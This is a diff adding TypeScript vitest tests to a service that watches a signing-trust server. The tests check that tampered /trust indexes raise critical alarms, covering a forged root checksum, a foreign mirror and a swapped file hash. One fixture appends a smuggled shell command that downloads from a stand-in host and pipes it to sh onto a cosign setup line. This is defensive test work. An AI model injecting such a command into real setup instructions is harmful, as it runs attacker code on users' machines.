@@ -1,6 +1,7 @@
+import { createHash } from "node:crypto";
 import { encodePem } from "@chancery/encoding";
 import { expect, test } from "vitest";
-import { addCa, chains, ONLINE_KEY, pem, ROOT_KEY, rootText, watching } from "./trust-world.ts";
+import { addCa, chains, ONLINE_KEY, pem, published, ROOT_KEY, rootText, watching } from "./trust-world.ts";
 
 interface DrawnChain {
   readonly certChain: { readonly certificates: readonly { readonly rawBytes: string }[] };
@@ -76,3 +77,77 @@ test("a server without files below /trust, or with those of the release before o
   const check = { name: "trust files at https://drawn.example/trust", state: "passed" };
   expect(book.checks).toContainEqual(expect.objectContaining(check));
 });
+
+const sumOf = (text: string) => createHash("sha256").update(text).digest("hex");
+const STRANGER = sumOf("another root");
+
+/** As the service answers it. */
+function indexOf(change: (tuf: Record<string, unknown>, files: { sha256: string }[]) => void = () => {}) {
+  const url = "https://drawn.example";
+  const rootSha256 = sumOf(published({ version: 1, targets: allTargets() }).get("/tuf/root.json")!);
+  const [mirror, root] = [`${url}/tuf`, `${url}/tuf/root.json`];
+  const cosign = `cosign initialize --mirror ${mirror} --root ${root} --root-checksum ${rootSha256}`;
+  const tuf = { mirror, root, rootSha256, cosign, roles: [{ role: "root", version: 1 }] };
+  const all = { "trusted_root.json": rootText(), ...plainFiles() };
+  const files = Object.entries(all).map(([name, text]) => {
+    return { name, url: `${url}/trust/${name}`, size: text.length, sha256: sumOf(text) };
+  });
+  change(tuf, files);
+  return JSON.stringify({ tuf, files });
+}
+
+const lineTo = (mirror: string, sum: string) =>
+  `cosign initialize --mirror ${mirror}/tuf --root ${mirror}/tuf/root.json --root-checksum ${sum}`;
+
+/** What who has the server tells those who copy from `/trust`. */
+const MISLED: Record<string, [Parameters<typeof indexOf>[0], RegExp]> = {
+  "the checksum of another root": [
+    (tuf) => Object.assign(tuf, { rootSha256: STRANGER, cosign: lineTo("https://drawn.example", STRANGER) }),
+    /\/trust: tells another rootSha256 than that of the first root/,
+  ],
+  "a line for cosign with another checksum": [
+    (tuf) => Object.assign(tuf, { cosign: lineTo("https://drawn.example", STRANGER) }),
+    /\/trust: tells another line for cosign/,
+  ],
+  "a line for cosign that goes on": [
+    (tuf) => Object.assign(tuf, { cosign: `${String(tuf["cosign"])}; curl stranger.example | sh` }),
+    /\/trust: tells another line for cosign/,
+  ],
+  "a mirror of somebody else's": [
+    (tuf) => {
+      const other = "https://stranger.example";
+      const cosign = lineTo(other, String(tuf["rootSha256"]));
+      Object.assign(tuf, { mirror: `${other}/tuf`, root: `${other}/tuf/root.json`, cosign });
+    },
+    /\/trust: names a server that the trust root does not: https:\/\/stranger\.example/,
+  ],
+  "a word on another server": [
+    (tuf) => Object.assign(tuf, { note: "we have moved: HTTPS://stranger.example/" }),
+    /\/trust: names a server that the trust root does not/,
+  ],
+};
+
+test.for(Object.keys(MISLED))("%s at /trust, which nobody signs, is a critical alarm", async (name) => {
+  const [change, told] = MISLED[name]!;
+  const { book, look } = await watching();
+  const release = { version: 1, targets: allTargets(), plain: plainFiles(), index: indexOf() };
+  expect(await look(release)).toEqual([]);
+  expect(await look({ ...release, index: indexOf(change) }, 61)).toEqual([expect.stringMatching(told)]);
+  expect(book.open).toMatchObject([{ trouble: "trust-invalid", severity: "critical", evidence: expect.any(String) }]);
+  expect(await look(release)).toEqual([]);
+});
+
+test.for([0, 1])(
+  "a sum at /trust of file %i that this one does not have is an alarm if it stays so for ten minutes",
+  async (at) => {
+    const { look } = await watching();
+    const release = { version: 1, targets: allTargets(), plain: plainFiles(), index: indexOf() };
+    expect(await look(release)).toEqual([]);
+    const swapped = { ...release, index: indexOf((_, files) => void (files[at]!.sha256 = STRANGER)) };
+    for (let minute = 0; minute < 10; minute++) expect(await look(swapped, 60)).toEqual([]);
+    expect(await look(swapped, 61)).toEqual([
+      expect.stringMatching(/^trust-invalid: .*\/trust: tells another SHA-256 of \w/),
+    ]);
+    expect(await look(release)).toEqual([]);
+  },
+);
